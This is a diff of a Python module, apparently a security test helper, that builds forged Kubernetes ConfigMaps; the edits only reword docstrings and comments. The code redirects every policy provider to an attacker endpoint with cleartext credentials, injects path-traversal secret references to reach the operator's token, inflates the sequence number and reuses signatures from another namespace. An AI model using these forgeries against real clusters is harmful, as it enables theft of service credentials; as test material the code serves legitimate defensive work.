@@ -1,4 +1,4 @@
-"""What somebody who may write ConfigMaps can put in the place of a generated one, so as to have a credential."""
+"""What a user who may write ConfigMaps can put in the place of a generated one, to steal a credential."""
 
 import copy
 import json
@@ -7,12 +7,12 @@ POLICY, SIGNATURES = "policy.v1.json", "policy.v1.sig"
 
 
 def forgeries(map, of_another, endpoint):
-    """By what is done: the ConfigMap `map` as a thief would have it, all of whose ways lead to a server of his own.
-    `of_another`: the one of another namespace, with a signature that is good there."""
+    """Variants of the ConfigMap `map`, by name, in which everything points to an attacker's server. `of_another`
+    is another namespace's ConfigMap, whose signature is valid there."""
     redirected = led_to(endpoint, map["data"][POLICY])
     files = json.loads(json.dumps(redirected))
     for credential in (one for provider in files["providers"] for one in provider["credentials"]):
-        # Where the token is that the operator gives keys for.
+        # The token that the operator delivers credentials for.
         credential["secret"] = {"namespace": "..", "name": "..", "key": "token/token"}
     newest = redirected | {"sequence": redirected["sequence"] + 1_000_000}
     return {
@@ -26,7 +26,7 @@ def forgeries(map, of_another, endpoint):
 
 
 def led_to(endpoint, document):
-    """The same policy, whose providers are all at one address, where no certificate is asked for."""
+    """The same policy with all its providers at one address, without a check of certificates."""
     document = json.loads(document)
     for provider in document["providers"]:
         provider |= {"endpoint": endpoint, "clearTextCredentials": True}
@@ -35,10 +35,10 @@ def led_to(endpoint, document):
 
 
 def changed(map, document, signatures=""):
-    """The same ConfigMap with another policy; its signatures stay, or are others, or none."""
-    # What a list or a watch gives says neither.
+    """The same ConfigMap with another policy, and with its own, other or no signatures."""
+    # Objects from a list or a watch have neither.
     forged = {"apiVersion": "v1", "kind": "ConfigMap"} | copy.deepcopy(map)
-    # Whatever is there is written over.
+    # Overwrites whatever is stored.
     for field in ("resourceVersion", "uid", "managedFields", "creationTimestamp"):
         forged["metadata"].pop(field, None)
     forged["data"][POLICY] = document if isinstance(document, str) else json.dumps(document)
@@ -50,7 +50,7 @@ def changed(map, document, signatures=""):
 
 
 def as_secret(map, object):
-    """What a Secret of the same name would put over the ConfigMap."""
+    """The files that a Secret of the same name would put over the ConfigMap's."""
     metadata = {"name": map["metadata"]["name"], "namespace": map["metadata"]["namespace"]}
     data = {name: object["data"][name] for name in (POLICY, SIGNATURES) if name in object["data"]}
     return {"apiVersion": "v1", "kind": "Secret", "metadata": metadata, "stringData": data}
